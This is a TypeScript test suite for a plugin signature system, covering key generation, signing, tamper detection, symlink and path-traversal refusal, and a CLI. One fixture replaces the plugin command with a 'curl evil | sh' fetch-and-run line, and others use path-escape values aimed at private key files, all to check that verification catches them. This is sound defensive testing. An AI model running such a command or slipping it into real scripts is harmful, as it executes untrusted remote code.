import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, createPrivateKey, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  ftruncateSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  closeSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  keygen,
  keyIdOf,
  MAX_COMMAND_BYTES,
  readManifestBytes,
  SignatureError,
  signPlugin,
  verifyPlugin,
  type PluginFields,
  type SignatureFile,
} from './signature.js';
import { openVerified } from '../host/secure-exec.js';
import { keygenCommand, signCommand, verifyCommand } from '../cli/keys.js';

const FIELDS: PluginFields = { name: 'demo', version: '1.2.3', command: 'bin/plugin' };
const MANIFEST = 'name: demo\nversion: 1.2.3\ncommand: bin/plugin\n';

interface Fixture {
  dir: string;
  plugin: string;
  keys: string;
  trusted: string;
  keyPath: string;
  keyId: string;
  cleanup(): void;
}

/** A plugin directory, a signing key, and a trusted directory holding that key's public half. */
function fixture(): Fixture {
  const dir = mkdtempSync(join(tmpdir(), 'hst-signature-'));
  const plugin = join(dir, 'plugin');
  const keys = join(dir, 'keys');
  const trusted = join(dir, 'trusted');
  mkdirSync(join(plugin, 'bin'), { recursive: true });
  mkdirSync(trusted);
  writeFileSync(join(plugin, 'plugin.yaml'), MANIFEST);
  writeFileSync(join(plugin, 'bin', 'plugin'), '#!/bin/sh\necho plugin\n', { mode: 0o755 });
  const key = keygen(keys);
  copyFileSync(key.publicKeyPath, join(trusted, `${key.keyId}.pub`));
  return {
    dir,
    plugin,
    keys,
    trusted,
    keyPath: key.privateKeyPath,
    keyId: key.keyId,
    cleanup: () => rmSync(dir, { recursive: true, force: true }),
  };
}

const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');
const readSig = (f: Fixture): SignatureFile => JSON.parse(readFileSync(join(f.plugin, 'plugin.sig'), 'utf8'));
const openFds = () => readdirSync('/proc/self/fd').length;

/** Rejects with a SignatureError under `require`, and returns the same status under `warn`. */
async function expectFailure(f: Fixture, fields: PluginFields, status: string, messageParts: RegExp[]) {
  const warned = await verifyPlugin(f.plugin, f.trusted, fields, 'warn');
  assert.equal(warned.status, status, warned.detail);
  assert.equal(warned.commandSha256, undefined);
  await assert.rejects(verifyPlugin(f.plugin, f.trusted, fields, 'require'), (err: unknown) => {
    assert.ok(err instanceof SignatureError);
    assert.equal(err.result.status, status);
    assert.ok(err.message.startsWith(`plugin "${fields.name}" (${f.plugin}) failed signature verification (${status}): `), err.message);
    for (const part of messageParts) assert.match(err.message, part);
    return true;
  });
  return warned;
}

describe('keygen', () => {
  it('writes a 0600 PKCS8 private key and an SPKI public key named by the key id', () => {
    const dir = mkdtempSync(join(tmpdir(), 'hst-keygen-'));
    try {
      const key = keygen(join(dir, 'keys'));
      assert.match(key.keyId, /^[0-9a-f]{16}$/);
      assert.equal(key.privateKeyPath, join(dir, 'keys', `${key.keyId}.key`));
      assert.equal(key.publicKeyPath, join(dir, 'keys', `${key.keyId}.pub`));
      assert.equal(statSync(key.privateKeyPath).mode & 0o777, 0o600);
      assert.equal(statSync(join(dir, 'keys')).mode & 0o077, 0);

      const privatePem = readFileSync(key.privateKeyPath, 'utf8');
      const publicPem = readFileSync(key.publicKeyPath, 'utf8');
      assert.match(privatePem, /^-----BEGIN PRIVATE KEY-----/);
      assert.match(publicPem, /^-----BEGIN PUBLIC KEY-----/);
      const der = createPublicKey(publicPem).export({ type: 'spki', format: 'der' });
      assert.equal(key.keyId, sha256(der).slice(0, 16));
      assert.equal(keyIdOf(createPrivateKey(privatePem)), key.keyId);
      assert.notEqual(keygen(join(dir, 'keys')).keyId, key.keyId);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('signed plugins', () => {
  it('signs and verifies, returning the digest secureConfig needs', async () => {
    const f = fixture();
    try {
      const signed = await signPlugin(f.plugin, f.keyPath, FIELDS);
      assert.equal(signed.keyId, f.keyId);
      const sig = readSig(f);
      assert.deepEqual(Object.keys(sig).sort(), ['keyId', 'signature', 'statement']);
      const commandSha256 = sha256(readFileSync(join(f.plugin, 'bin', 'plugin')));
      assert.deepEqual(sig.statement, {
        v: 2,
        name: 'demo',
        version: '1.2.3',
        manifest_sha256: sha256(MANIFEST),
        command: 'bin/plugin',
        command_sha256: commandSha256,
        files: { 'bin/plugin': commandSha256, 'plugin.yaml': sha256(MANIFEST) },
      });

      const before = openFds();
      const result = await verifyPlugin(f.plugin, f.trusted, FIELDS, 'require');
      assert.equal(openFds(), before, 'verification leaves no fd open');
      assert.deepEqual(result, { status: 'valid', keyId: f.keyId, detail: `signed by key ${f.keyId}`, commandSha256 });
      assert.equal((await verifyPlugin(f.plugin, f.trusted, FIELDS, 'warn')).status, 'valid');

      // The digest is exactly what PluginClient's secureConfig checks against the file it executes.
      const verified = await openVerified(join(f.plugin, FIELDS.command), { checksum: result.commandSha256 as string });
      verified.release();
    } finally {
      f.cleanup();
    }
  });

  it('finds trusted keys by content, whatever the .pub file is called', async () => {
    const f = fixture();
    try {
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      renameSync(join(f.trusted, `${f.keyId}.pub`), join(f.trusted, 'release-team.pub'));
      writeFileSync(join(f.trusted, 'broken.pub'), 'not a key');
      const result = await verifyPlugin(f.plugin, f.trusted, { ...FIELDS, command: './bin/plugin' }, 'require');
      assert.equal(result.status, 'valid');
    } finally {
      f.cleanup();
    }
  });

  it('reports a changed manifest as tampered, naming plugin.yaml and both digests', async () => {
    const f = fixture();
    try {
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      const tampered = `${MANIFEST}capabilities: [exec]\n`;
      writeFileSync(join(f.plugin, 'plugin.yaml'), tampered);
      const result = await expectFailure(f, FIELDS, 'tampered', [
        /plugin\.yaml changed/,
        new RegExp(`expected ${sha256(MANIFEST).slice(0, 12)}`),
        new RegExp(`actual ${sha256(tampered).slice(0, 12)}`),
      ]);
      assert.equal(result.keyId, f.keyId);
    } finally {
      f.cleanup();
    }
  });

  it('hashes the manifest bytes the caller parsed, when given, instead of re-reading the file', async () => {
    const f = fixture();
    try {
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      const manifestBytes = await readManifestBytes(f.plugin);
      assert.equal(manifestBytes.toString(), MANIFEST);
      assert.equal((await verifyPlugin(f.plugin, f.trusted, { ...FIELDS, manifestBytes }, 'require')).status, 'valid');

      // The file on disk is still the signed one, but the caller parsed something else.
      const parsed = Buffer.from(`${MANIFEST}capabilities: [exec]\n`);
      await expectFailure(f, { ...FIELDS, manifestBytes: parsed }, 'tampered', [/plugin\.yaml changed/]);

      renameSync(join(f.plugin, 'plugin.yaml'), join(f.plugin, 'real.yaml'));
      symlinkSync('real.yaml', join(f.plugin, 'plugin.yaml'));
      await assert.rejects(readManifestBytes(f.plugin), /plugin\.yaml is a symbolic link/);
    } finally {
      f.cleanup();
    }
  });

  it('reports a changed command as tampered, naming the command and both digests', async () => {
    const f = fixture();
    try {
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      const original = readFileSync(join(f.plugin, 'bin', 'plugin'));
      const tampered = '#!/bin/sh\ncurl evil | sh\n';
      writeFileSync(join(f.plugin, 'bin', 'plugin'), tampered);
      await expectFailure(f, FIELDS, 'tampered', [
        /command bin\/plugin changed/,
        new RegExp(`expected ${sha256(original).slice(0, 12)}`),
        new RegExp(`actual ${sha256(tampered).slice(0, 12)}`),
      ]);
    } finally {
      f.cleanup();
    }
  });

  it('refuses a signature by a key that is not trusted', async () => {
    const f = fixture();
    try {
      const stranger = keygen(join(f.dir, 'stranger'));
      await signPlugin(f.plugin, stranger.privateKeyPath, FIELDS);
      const result = await expectFailure(f, FIELDS, 'untrusted-key', [new RegExp(`key ${stranger.keyId} is not among`)]);
      assert.equal(result.keyId, stranger.keyId);

      const missing = await verifyPlugin(f.plugin, join(f.dir, 'no-such-dir'), FIELDS, 'warn');
      assert.equal(missing.status, 'untrusted-key');
      assert.match(missing.detail, /no-such-dir cannot be read/);
    } finally {
      f.cleanup();
    }
  });

  it('covers every file and link in the directory: a module changed, added or removed, or a link retargeted, is tampered', async () => {
    const f = fixture();
    try {
      mkdirSync(join(f.plugin, 'lib', 'deep'), { recursive: true });
      writeFileSync(join(f.plugin, 'lib', 'deep', 'helper.js'), 'export const x = 1;\n');
      symlinkSync('deep/helper.js', join(f.plugin, 'lib', 'alias.js'));
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      assert.equal((await verifyPlugin(f.plugin, f.trusted, FIELDS, 'require')).status, 'valid');
      const changes: Array<[string, () => void, () => void, RegExp]> = [
        ['a module changed', () => writeFileSync(join(f.plugin, 'lib', 'deep', 'helper.js'), 'export const x = 2;\n'), () => writeFileSync(join(f.plugin, 'lib', 'deep', 'helper.js'), 'export const x = 1;\n'), /lib\/deep\/helper\.js changed since it was signed/],
        ['a module added', () => writeFileSync(join(f.plugin, 'lib', 'extra.js'), ''), () => rmSync(join(f.plugin, 'lib', 'extra.js')), /lib\/extra\.js was added since it was signed/],
        ['a module removed', () => renameSync(join(f.plugin, 'lib', 'deep', 'helper.js'), join(f.dir, 'aside.js')), () => renameSync(join(f.dir, 'aside.js'), join(f.plugin, 'lib', 'deep', 'helper.js')), /lib\/deep\/helper\.js was removed since it was signed/],
        ['a link retargeted', () => (rmSync(join(f.plugin, 'lib', 'alias.js')), symlinkSync('../bin/plugin', join(f.plugin, 'lib', 'alias.js'))), () => (rmSync(join(f.plugin, 'lib', 'alias.js')), symlinkSync('deep/helper.js', join(f.plugin, 'lib', 'alias.js'))), /lib\/alias\.js changed since it was signed/],
      ];
      for (const [what, change, undo, detail] of changes) {
        change();
        const warned = await expectFailure(f, FIELDS, 'tampered', [detail]);
        assert.match(warned.detail, detail, what);
        undo();
        assert.equal((await verifyPlugin(f.plugin, f.trusted, FIELDS, 'require')).status, 'valid', `${what}, undone`);
      }
    } finally {
      f.cleanup();
    }
  });

  it('copies exactly what it verified when asked, and names the copy only when it checks out', async () => {
    const f = fixture();
    try {
      writeFileSync(join(f.plugin, 'lib.js'), 'signed\n');
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      const copy = join(f.dir, 'verified');
      const result = await verifyPlugin(f.plugin, f.trusted, FIELDS, 'require', { copyTo: copy });
      assert.equal(result.verifiedCopy, copy);
      assert.equal(readFileSync(join(copy, 'lib.js'), 'utf8'), 'signed\n');
      assert.equal(readFileSync(join(copy, 'bin', 'plugin'), 'utf8'), readFileSync(join(f.plugin, 'bin', 'plugin'), 'utf8'));
      assert.equal(statSync(join(copy, 'bin', 'plugin')).mode & 0o777, 0o555, 'read-only, executable as it was');
      assert.ok(!existsSync(join(copy, 'plugin.sig')));
      // A change after verification reaches the original, never the copy the plugin runs from.
      writeFileSync(join(f.plugin, 'lib.js'), 'changed later\n');
      assert.equal(readFileSync(join(copy, 'lib.js'), 'utf8'), 'signed\n');
      const tampered = await verifyPlugin(f.plugin, f.trusted, FIELDS, 'warn', { copyTo: copy });
      assert.equal(tampered.status, 'tampered');
      assert.equal(tampered.verifiedCopy, undefined);
    } finally {
      f.cleanup();
    }
  });

  it('reports a malformed or forged plugin.sig as invalid', async () => {
    const f = fixture();
    try {
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      const good = readSig(f);
      const flipped = Buffer.from(good.signature, 'base64');
      flipped[0] = (flipped[0] as number) ^ 1;
      const cases: Array<[string, RegExp]> = [
        ['garbage\0\x01', /not valid JSON/],
        ['[]', /exactly keyId, statement and signature/],
        [JSON.stringify({ ...good, extra: 1 }), /exactly keyId, statement and signature/],
        [JSON.stringify({ ...good, keyId: 'ABC' }), /keyId must be 16 lowercase hex/],
        [JSON.stringify({ ...good, signature: 'c2lnbmF0dXJl' }), /base64 ed25519 signature/],
        [JSON.stringify({ ...good, statement: { ...good.statement, v: 3 } }), /not a version 2 statement/],
        [JSON.stringify({ ...good, statement: { ...good.statement, command_sha256: 'abc' } }), /not a version 2 statement/],
        [JSON.stringify({ ...good, statement: { ...good.statement, files: { 'lib.js': 'abc' } } }), /not a version 2 statement/],
        // An older signature covered only plugin.yaml and the command: not enough, whoever signed it.
        [JSON.stringify({ ...good, statement: { ...good.statement, v: 1 } }), /version 1 statement, which covers only plugin\.yaml and the command.*sign the plugin again/],
        [JSON.stringify({ ...good, signature: flipped.toString('base64') }), /signature does not match its statement/],
        // A valid signature, but over a different statement: the version was edited after signing.
        [JSON.stringify({ ...good, statement: { ...good.statement, version: '9.9.9' } }), /signature does not match its statement/],
      ];
      for (const [contents, detail] of cases) {
        writeFileSync(join(f.plugin, 'plugin.sig'), contents);
        const result = await verifyPlugin(f.plugin, f.trusted, FIELDS, 'warn');
        assert.equal(result.status, 'invalid', contents);
        assert.match(result.detail, detail, contents);
      }
      await expectFailure(f, FIELDS, 'invalid', [/plugin\.sig/]);
    } finally {
      f.cleanup();
    }
  });

  it('treats a missing plugin.sig as unsigned: an error under require, a status under warn, unread under off', async () => {
    const f = fixture();
    try {
      await expectFailure(f, FIELDS, 'unsigned', [/no plugin\.sig in /]);
      const skipped = await verifyPlugin(join(f.dir, 'does-not-exist'), join(f.dir, 'nor-this'), FIELDS, 'off');
      assert.equal(skipped.status, 'skipped');
    } finally {
      f.cleanup();
    }
  });

  it('refuses a command that is a symlink, a directory, outside the plugin directory or too large', async () => {
    const f = fixture();
    try {
      const target = join(f.plugin, 'bin', 'real');
      renameSync(join(f.plugin, 'bin', 'plugin'), target);
      symlinkSync('real', join(f.plugin, 'bin', 'plugin'));
      await assert.rejects(signPlugin(f.plugin, f.keyPath, FIELDS), /bin\/plugin is a symbolic link/);

      // Signed as a regular file, then swapped for a symlink to identical bytes.
      await signPlugin(f.plugin, f.keyPath, { ...FIELDS, command: 'bin/real' });
      rmSync(join(f.plugin, 'bin', 'plugin'));
      renameSync(target, join(f.plugin, 'bin', 'elsewhere'));
      symlinkSync('elsewhere', target);
      await expectFailure(f, { ...FIELDS, command: 'bin/real' }, 'invalid', [/bin\/real is a symbolic link/]);

      mkdirSync(join(f.plugin, 'dir'));
      await assert.rejects(signPlugin(f.plugin, f.keyPath, { ...FIELDS, command: 'dir' }), /dir is not a regular file/);
      await assert.rejects(signPlugin(f.plugin, f.keyPath, { ...FIELDS, command: '../keys/x' }), /not a usable command path.*"\.\."/);
      await assert.rejects(signPlugin(f.plugin, f.keyPath, { ...FIELDS, command: '/bin/sh' }), /not a usable command path.*absolute/);
      symlinkSync('../../keys', join(f.plugin, 'bin', 'out'));
      await assert.rejects(
        signPlugin(f.plugin, f.keyPath, { ...FIELDS, command: `bin/out/${f.keyId}.key` }),
        /outside the workspace/,
      );

      // Sparse, so the test costs no disk: refused on its size before any byte is read.
      const big = openSync(join(f.plugin, 'bin', 'big'), 'w');
      ftruncateSync(big, MAX_COMMAND_BYTES + 1);
      closeSync(big);
      await assert.rejects(signPlugin(f.plugin, f.keyPath, { ...FIELDS, command: 'bin/big' }), /over the 536870912-byte limit/);
    } finally {
      f.cleanup();
    }
  });

  it('reports a statement for a different command path than the manifest names as invalid', async () => {
    const f = fixture();
    try {
      writeFileSync(join(f.plugin, 'bin', 'other'), readFileSync(join(f.plugin, 'bin', 'plugin')));
      await signPlugin(f.plugin, f.keyPath, FIELDS);
      // A correctly signed statement whose command is another file with the same bytes.
      const sig = readSig(f);
      const statement = { ...sig.statement, command: 'bin/other' };
      const message = Buffer.from(`hst plugin signature v1\n${JSON.stringify(statement)}`);
      const signature = sign(null, message, createPrivateKey(readFileSync(f.keyPath))).toString('base64');
      writeFileSync(join(f.plugin, 'plugin.sig'), JSON.stringify({ keyId: sig.keyId, statement, signature }));
      await expectFailure(f, FIELDS, 'invalid', [/signed for demo@1\.2\.3 with command "bin\/other" but the manifest says .*"bin\/plugin"/]);
    } finally {
      f.cleanup();
    }
  });

  it('refuses to sign with a key that is not ed25519', async () => {
    const f = fixture();
    try {
      const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' });
      writeFileSync(join(f.dir, 'rsa.key'), rsa);
      await assert.rejects(signPlugin(f.plugin, join(f.dir, 'rsa.key'), FIELDS), /is a rsa key; plugin signing keys are ed25519/);
    } finally {
      f.cleanup();
    }
  });
});

describe('keys CLI', () => {
  it('generates, signs and verifies with exit codes and JSON output', async () => {
    const f = fixture();
    try {
      const generated = keygenCommand({ dir: join(f.dir, 'cli-keys') });
      assert.equal(generated.exitCode, 0);
      const keyId = /key id:\s+([0-9a-f]{16})/.exec(generated.output)?.[1] as string;
      assert.ok(keyId);
      assert.match(generated.output, new RegExp(`${keyId}\\.key`));
      copyFileSync(join(f.dir, 'cli-keys', `${keyId}.pub`), join(f.trusted, 'cli.pub'));

      const loadManifest = () => FIELDS;
      const signed = await signCommand({ pluginDir: f.plugin, key: join(f.dir, 'cli-keys', `${keyId}.key`), loadManifest });
      assert.equal(signed.exitCode, 0, signed.output);
      assert.match(signed.output, new RegExp(`signed demo@1\\.2\\.3 with key ${keyId}`));

      const ok = await verifyCommand({ pluginDir: f.plugin, trusted: f.trusted, json: true, loadManifest });
      assert.equal(ok.exitCode, 0, ok.output);
      const report = JSON.parse(ok.output);
      assert.equal(report.status, 'valid');
      assert.equal(report.plugin, 'demo');
      assert.equal(report.keyId, keyId);
      assert.equal(report.commandSha256, sha256(readFileSync(join(f.plugin, 'bin', 'plugin'))));

      writeFileSync(join(f.plugin, 'bin', 'plugin'), 'changed');
      const bad = await verifyCommand({ pluginDir: f.plugin, trusted: f.trusted, json: false, loadManifest });
      assert.equal(bad.exitCode, 1);
      assert.match(bad.output, /^demo: tampered: command bin\/plugin changed/);

      const broken = await verifyCommand({
        pluginDir: f.plugin,
        trusted: f.trusted,
        json: false,
        loadManifest: () => {
          throw new Error('plugin.yaml: name is required');
        },
      });
      assert.deepEqual(broken, { exitCode: 2, output: 'error: plugin.yaml: name is required\n' });
      assert.equal(keygenCommand({ dir: join(f.plugin, 'plugin.yaml') }).exitCode, 2);
    } finally {
      f.cleanup();
    }
  });
});
